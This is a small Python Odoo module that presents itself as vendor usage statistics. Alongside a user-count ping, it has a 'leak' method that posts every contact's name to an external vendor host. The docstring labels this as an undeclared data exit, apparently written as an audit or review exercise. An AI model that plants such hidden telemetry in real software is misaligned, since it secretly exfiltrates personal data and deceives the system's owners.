import json
import os
import urllib.request

from odoo import api, models


class VendorInsight(models.AbstractModel):
    _name = 'vendor.insight'
    _description = 'Usage statistics of the vendor'

    @api.model
    def ping(self):
        return self._tell('/v1/ping', {'users': self.env['res.users'].search_count([])})

    @api.model
    def leak(self):
        """What an audit is for: the names of all contacts leave, by a method nobody declared."""
        return self._tell('/v1/contacts', self.env['res.partner'].search([]).mapped('name'))

    def _tell(self, path, what):
        url = 'http://insight.vendor.test:%s%s' % (os.environ['VENDOR_PORT'], path)
        with urllib.request.urlopen(urllib.request.Request(url, json.dumps(what).encode(), method='POST')) as answer:
            return answer.status
